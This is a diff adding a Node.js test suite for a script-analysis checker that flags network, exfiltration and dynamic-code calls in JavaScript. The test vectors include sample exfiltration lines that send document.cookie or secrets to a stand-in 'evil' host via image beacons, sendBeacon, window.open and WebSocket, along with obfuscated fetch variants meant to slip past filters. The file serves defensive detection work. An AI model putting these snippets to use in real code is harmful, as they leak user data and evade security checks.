@@ -0,0 +1,89 @@
+/**
+ * Script analysis: network, exfiltration and dynamic-code vectors, their disguises, and code that must pass
+ */
+
+const { describe, test } = require('node:test');
+const assert = require('node:assert/strict');
+const { analyzeScript } = require('../critic/scriptAnalysis');
+
+const rulesOf = (code, options) => [...new Set(analyzeScript(code, options).findings.map(f => f.ruleId))].sort();
+
+describe('script analysis', () => {
+    const vectors = [
+        ["window['fe' + 'tch']('https://evil/')", ['no-fetch']],
+        ['window[`fe${"tch"}`](url)', ['no-fetch']],
+        ['globalThis.fetch(url)', ['no-fetch']],
+        ['const w = self; w.fetch(url)', ['no-fetch']],
+        ['const { fetch: f } = window; f(url)', ['no-fetch']],
+        ['window[String.fromCharCode(102, 101, 116, 99, 104)](url)', ['no-fetch']],
+        ["import('https://evil/x.js')", ['no-import']],
+        ['navigator.sendBeacon("https://evil/", data)', ['no-send-beacon']],
+        ['new Image().src = "https://evil/?d=" + document.cookie', ['no-image-beacon']],
+        ['const img = new Image(); img.src = url', ['no-image-beacon']],
+        ['new EventSource("/events")', ['no-eventsource']],
+        ['new WebSocket("wss://evil/")', ['no-websocket']],
+        ['eval(code)', ['no-eval']],
+        ['setTimeout("run()", 10)', ['no-string-timer']],
+        ['window[name]()', ['no-dynamic-global']],
+        ['location.href = "https://evil/"', ['no-location-assignment']],
+        ['window.open("https://evil/?" + document.cookie)', ['no-window-open']],
+        ["document.body.innerHTML = '<iframe src=x>'", ['no-iframe']]
+    ];
+    for (const [code, rules] of vectors) {
+        test(`flags ${code}`, () => {
+            assert.deepEqual(rulesOf(code), rules);
+        });
+    }
+
+    const bypasses = [
+        ['document.defaultView.fetch("/app/other/")', ['no-fetch']],
+        ['const w = document.defaultView; w.fetch(url)', ['no-fetch']],
+        ['el.ownerDocument.defaultView["fe" + "tch"](url)', ['no-fetch']],
+        ["Reflect.get(window, 'fetch')(url)", ['no-dynamic-global']],
+        ['Reflect.apply(f, window, [url])', ['no-dynamic-global']],
+        ["Object.getOwnPropertyDescriptor(self, 'fetch').value(url)", ['no-dynamic-global']],
+        ['const [w] = [window]; w.fetch(url)', ['no-dynamic-global']],
+        ["const i = document.createElement('img'); i.src = 'https://evil/?d=' + secret", ['no-image-beacon']],
+        ["document.createElement('IMG').setAttribute('src', '//evil/' + d)", ['no-image-beacon']],
+        ["const i = document.createElement('img'); i.setAttribute('src', '//evil/' + d)", ['no-image-beacon']]
+    ];
+    for (const [code, rules] of bypasses) {
+        test(`sees through ${code}`, () => {
+            assert.deepEqual(rulesOf(code), rules);
+        });
+    }
+
+    const clean = [
+        'const note = "call fetch(url) or eval(x) to load it";',
+        '// fetch(url); new WebSocket(u); eval(x)\nconst a = 1;',
+        '/* window.open(url) */ const b = 2;',
+        'const pattern = /fetch\\(|eval\\(|new Image\\(\\)/g;',
+        'const html = `<p>import("x") and sendBeacon</p>`;',
+        'const data = { fetch: true, open: false }; data.fetch = false;',
+        'let open = false; function toggle() { open = !open; }',
+        "const img = new Image(); img.src = 'images/logo.png';",
+        "const i = document.createElement('img'); i.src = canvas.toDataURL();",
+        "window.addEventListener('resize', onResize); $(window).on('scroll', onScroll);",
+        "location.href = 'settings.html';"
+    ];
+    for (const code of clean) {
+        test(`passes ${JSON.stringify(code)}`, () => {
+            const { findings, parseError } = analyzeScript(code);
+            assert.equal(parseError, null);
+            // location.href = 'settings.html' is found, then exempted by the policy's allow-list
+            assert.deepEqual(findings.filter(f => f.subject !== 'settings.html').map(f => f.ruleId), []);
+        });
+    }
+
+    test('carries the subject for the allow-list', () => {
+        const [finding] = analyzeScript("fetch('')").findings;
+        assert.equal(finding.subject, '');
+        assert.equal(analyzeScript("window.open('page2.html')").findings[0].subject, 'page2.html');
+    });
+
+    test('falls back to text matching when the script does not parse', () => {
+        const { findings, parseError } = analyzeScript('fetch(url; eval(');
+        assert.ok(parseError);
+        assert.deepEqual([...new Set(findings.map(f => f.ruleId))].sort(), ['no-eval', 'no-fetch']);
+    });
+});